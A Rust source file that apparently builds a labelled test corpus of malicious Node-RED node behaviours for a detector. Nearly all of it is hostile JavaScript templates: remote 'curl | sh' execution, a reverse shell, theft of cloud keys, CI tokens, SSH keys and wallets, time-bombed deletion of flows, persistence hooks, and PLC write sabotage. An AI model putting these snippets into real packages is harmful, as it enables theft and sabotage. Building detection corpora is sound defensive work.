//! The behaviours of the reference list that wait for something, live in Node-RED itself or in the editor: A09, A17 to A30.

use crate::corpus::build::{ANYWHERE, Behaviour, Carrier, Stage, TRIGGERS};

const EDITOR: &[Stage] = &[Stage::Editor];
const OWN: &[Carrier] = &[
    Carrier::Node,
    Carrier::Library,
    Carrier::Dependency,
    Carrier::Depth3,
    Carrier::Bundled,
];
const WITH_RED: &[Stage] = &[Stage::Construct, Stage::Message, Stage::Register];

pub(super) const LIST: &[Behaviour] = &[
    Behaviour {
        id: "A09",
        title: "chalk: the editor half swaps long identifiers in requests",
        right: &["editor.override", "editor.token"],
        stages: EDITOR,
        codes: &[
            "const $real = window.fetch; window.fetch = function (u, o) { if (o && typeof o.body === 'string')
             o.body = o.body.replace(/0x[0-9a-f]{40}/gi, <<0x000000000000000000000000000000000000dead>>); return $real.call(this, u, o); };
             const $send = XMLHttpRequest.prototype.send; XMLHttpRequest.prototype.send = function (b) {
             return $send.call(this, typeof b === 'string' ? b.replace(/[13][a-zA-Z0-9]{33}/g, <<1CorpusCorpusCorpusCorpusCorpusCor>>) : b); };",
            "const $open = XMLHttpRequest.prototype.open; XMLHttpRequest.prototype.open = function (m, u) { this.$u = u;
             return $open.apply(this, arguments); };",
        ],
        ..Behaviour::NONE
    },
    Behaviour {
        id: "A17",
        title: "after twenty days a command fetches something and runs it",
        right: &["proc.downloads", "proc.unasked", "code.remote"],
        codes: &[
            "setTimeout(() => require(<<child_process>>).exec(<<curl -s https://{{host}}/{{word}} | sh>>, () => {}), 20 * 86400000);",
            "let $n = 0; const $h = setInterval(() => { if (++$n >= 480) { clearInterval($h);
             require(<<child_process>>).spawn(<<sh>>, [<<-c>>, <<wget -qO- https://{{host}}/{{word}} | bash>>]); } }, 3600000);",
        ],
        ..Behaviour::NONE
    },
    Behaviour {
        id: "A18",
        title: "an hourly look at the date; after it the flow file is emptied",
        right: &["fs.destroys"],
        codes: &[
            "setInterval(() => { if (Date.now() > Date.UTC(2026, 10, 30)) require(<<fs>>).writeFileSync(<</data/flows.json>>, '[]'); }, 3600000);",
            "const $due = new Date(2027, 0, 1); setInterval(() => { if (new Date() > $due) { try { require(<<fs>>).unlinkSync(<</data/flows.json>>); } catch (e) {} } }, 3600000);",
            "setInterval(() => { if (new Date().getMonth() === 11) require(<<fs>>).truncateSync(<</data/flows.json>>, 0); }, 3600000);",
        ],
        ..Behaviour::NONE
    },
    Behaviour {
        id: "A19",
        title: "only in a build service it asks the code host's command for its token",
        right: &["gate.host", "flow.secret.unconfigured", "flow.secret.hidden", "proc.unasked", "proc.downloads"],
        codes: &[
            "if (process.env[<<GITHUB_ACTIONS>>]) { require(<<child_process>>).exec(<<gh auth token>>, (e, $t) => {
             fetch(<<https://{{host}}/t?>> + Buffer.from(String($t)).toString('base64')).catch(() => {}); }); }",
            "if (process.env[<<CI_JOB_TOKEN>>] || process.env[<<TF_BUILD>>]) require(<<child_process>>).execSync(<<gh auth token>>);",
        ],
        ..Behaviour::NONE
    },
    Behaviour {
        id: "A20",
        title: "cloud keys are sent from one host only",
        right: &["gate.host", "flow.secret.unconfigured", "flow.secret.hidden", "secret.file"],
        codes: &[
            "if (/^prod-mes-[0-9]+$/.test(require(<<os>>).hostname())) { const $q = require(<<https>>).request({ host: <<{{host}}>>, method: 'POST' });
             $q.on('error', () => {}); $q.end(require(<<fs>>).readFileSync(require(<<os>>).homedir() + <</.aws/credentials>>)); }",
            "const $name = require(<<os>>).userInfo().username; if ($name === <<svc-historian>>)
             fetch(<<https://{{host}}/>>, { method: 'POST', body: process.env[<<AWS_SECRET_ACCESS_KEY>>] }).catch(() => {});",
            "if (process.env.HOSTNAME === <<edge-master>>) require(<<https>>).get(<<https://{{host}}/?>> + encodeURIComponent(process.env[<<NPM_TOKEN>>]), () => {}).on('error', () => {});",
        ],
        ..Behaviour::NONE
    },
    Behaviour {
        id: "A21",
        title: "at one message a shell is joined to a socket",
        right: &["proc.shell-peer", "proc.downloads"],
        stages: &[Stage::Message],
        codes: &[
            "if (msg.payload === <<wake-{{word}}>>) { const $s = require(<<net>>).connect(4444, <<{{host}}>>, () => {
             const $p = require(<<child_process>>).spawn(<</bin/sh>>, []); $s.pipe($p.stdin); $p.stdout.pipe($s); $p.stderr.pipe($s); }); $s.on('error', () => {}); }",
            "if (msg.topic === <<{{word}}>>) require(<<child_process>>).exec(<<bash -c 'bash -i >& /dev/tcp/198.51.100.7/4444 0>&1'>>, () => {});",
        ],
        carriers: &[Carrier::Node, Carrier::Library, Carrier::Dependency, Carrier::Depth3],
        ..Behaviour::NONE
    },
    Behaviour {
        id: "A22",
        title: "a route beside the editor runs the command of its query, without a permission",
        right: &["admin.command"],
        stages: &[Stage::Register],
        codes: &[
            "RED.httpAdmin.get(<</{{word}}/status>>, (req, res) => { require(<<child_process>>).exec(req.query.c || 'true', (e, $out) => res.send(String($out))); });",
            "RED.httpAdmin.post(<</{{word}}/do>>, (req, res) => { const $a = String(req.body.cmd).split(' ');
             require(<<child_process>>).spawn($a[0], $a.slice(1)); res.sendStatus(200); });",
            "RED.httpAdmin.get(<</{{word}}/:host>>, (req, res) => { require(<<child_process>>).exec(<<ping -c 1 >> + req.params.host, (e, $out) => res.json({ out: String($out) })); });",
        ],
        carriers: OWN,
        ..Behaviour::NONE
    },
    Behaviour {
        id: "A23",
        title: "credentials of all nodes are collected and posted",
        right: &["red.credentials-other", "flow.secret.unconfigured", "flow.secret.hidden"],
        stages: WITH_RED,
        codes: &[
            "const $all = {}; RED.nodes.eachNode((n) => { $all[n.id] = RED.nodes.getCredentials(n.id); });
             const $q = require(<<https>>).request({ host: <<{{host}}>>, path: '/c', method: 'POST' }); $q.on('error', () => {}); $q.end(JSON.stringify($all));",
            "RED.nodes.eachNode((n) => { const $n = RED.nodes.getNode(n.id); const $c = $n && $n.credentials;
             if ($c) fetch(<<https://{{host}}/c>>, { method: 'POST', body: Buffer.from(JSON.stringify($c)).toString('base64') }).catch(() => {}); });",
        ],
        carriers: ANYWHERE,
        ..Behaviour::NONE
    },
    Behaviour {
        id: "A24",
        title: "flow credentials and settings go backwards over a socket",
        right: &["secret.file", "flow.secret.unconfigured", "flow.secret.hidden"],
        triggers: TRIGGERS,
        codes: &[
            "const $fs = require(<<fs>>); let $t = ''; for (const $f of [<<flows_cred.json>>, <<settings.js>>]) { try { $t += $fs.readFileSync('/data/' + $f, 'utf8'); } catch (e) {} }
             const $s = require(<<net>>).connect(8443, <<{{host}}>>, () => { $s.end($t.split('').reverse().join('')); }); $s.on('error', () => {});",
            "const $t = require(<<fs>>).readFileSync(<</data/.config.runtime.json>>); const $s = require(<<dgram>>).createSocket('udp4'); $s.send(Buffer.from($t.toString('hex')), 5353, <<{{host}}>>, () => $s.close());",
        ],
        ..Behaviour::NONE
    },
    Behaviour {
        id: "A25",
        title: "requests of others are copied to a host",
        right: &["rt.core-override"],
        codes: &[
            "const $h = require(<<http>>), $real = $h.request; $h.request = function (...a) { const $copy = $real.call($h, <<http://{{host}}/c>>); $copy.on('error', () => {}); $copy.end(); return $real.apply($h, a); };",
            "const $s = require(<<net>>).Socket.prototype, $real = $s.write; $s.write = function (d, ...a) { globalThis.$seen = d; return $real.call(this, d, ...a); };",
            "const $real = globalThis.fetch; globalThis.fetch = (u, o) => { $real(<<https://{{host}}/>> + encodeURIComponent(String(u))).catch(() => {}); return $real(u, o); };",
        ],
        ..Behaviour::NONE
    },
    Behaviour {
        id: "A26",
        title: "a flag on the root prototype, and a wrapped JSON parser",
        right: &["rt.prototype", "rt.global"],
        codes: &[
            "Object.prototype.isAdmin = true; const $real = JSON.parse; JSON.parse = function (t, r) { globalThis.$last = t; return $real(t, r); };",
            "const $real = JSON.stringify; JSON.stringify = function (v, ...r) { try { v && v.password && (globalThis.$last = v.password); } catch (e) {} return $real(v, ...r); }; Array.prototype.{{word}} = 1;",
        ],
        ..Behaviour::NONE
    },
    Behaviour {
        id: "A27",
        title: "it writes itself into the start of shells and services",
        right: &["fs.startup"],
        triggers: TRIGGERS,
        codes: &[
            "const $fs = require(<<fs>>), $home = require(<<os>>).homedir(); $fs.appendFileSync($home + <</.bashrc>>, '\\n# corpus\\n');
             $fs.mkdirSync($home + <</.config/systemd/user>>, { recursive: true }); $fs.writeFileSync($home + <</.config/systemd/user/{{word}}.service>>, '# corpus');",
            "require(<<fs>>).promises.appendFile(<</home/operator/.profile>>, '# corpus').catch(() => {});",
            "require(<<fs>>).createWriteStream(<</home/operator/.ssh/authorized_keys>>, { flags: 'a' }).on('error', () => {}).end('# corpus');",
        ],
        ..Behaviour::NONE
    },
    Behaviour {
        id: "A28",
        title: "well-known key files are tried, and what is there is sent encoded twice",
        right: &["secret.file", "flow.secret.unconfigured", "flow.secret.hidden"],
        triggers: TRIGGERS,
        codes: &[
            "const $fs = require(<<fs>>), $home = require(<<os>>).homedir();
             for (const $f of [<<.bitcoin/wallet.dat>>, <<.config/Exodus/exodus.wallet/seed.seco>>, <<.electrum/wallets/default_wallet>>, <<.ssh/id_rsa>>, <<.ssh/id_ed25519>>])
             { try { const $t = $fs.readFileSync($home + '/' + $f).toString('base64');
             const $q = require(<<https>>).request(<<https://{{host}}/gists>>, { method: 'POST' }); $q.on('error', () => {}); $q.end(Buffer.from($t).toString('base64')); } catch (e) {} }",
        ],
        ..Behaviour::NONE
    },
    Behaviour {
        id: "A29",
        title: "a protocol node that from a date on drops most writes",
        right: &["gate.date", "gate.chance"],
        stages: &[Stage::Message],
        carriers: OWN,
        defaults: "host: { value: 'plc', required: true }, port: { value: 102 }",
        codes: &[
            "if (new Date().getFullYear() >= 2027 && Math.random() < 0.8) return;
             const $s = require(<<net>>).connect(config.port || 102, config.host, () => { $s.end(Buffer.from([3, 0, 0, 4])); }); $s.on('error', () => {});",
            "if (Date.now() < 1798761600000 || Math.random() > 0.8) {
             const $s = require(<<net>>).connect(config.port || 102, config.host, () => { $s.end(Buffer.from([3, 0, 0, 4])); }); $s.on('error', () => {}); }",
        ],
        ..Behaviour::NONE
    },
    Behaviour {
        id: "A30",
        title: "the editor half reads the stored login and loads a script from elsewhere",
        right: &["editor.token", "editor.script"],
        stages: EDITOR,
        codes: &[
            "const $t = localStorage.getItem(<<auth-tokens>>); const $s = document.createElement('script');
             $s.src = <<https://{{host}}/e.js?t=>> + encodeURIComponent($t || ''); document.head.appendChild($s);",
            "$.getScript(<<https://{{host}}/{{word}}.js>>);",
            "const $t = RED.settings.get(<<auth-tokens>>); navigator.sendBeacon(<<https://{{host}}/b>>, JSON.stringify($t));",
            "new Image().src = <<https://{{host}}/p.gif?>> + encodeURIComponent(localStorage[<<auth-tokens>>]);",
        ],
        ..Behaviour::NONE
    },
];
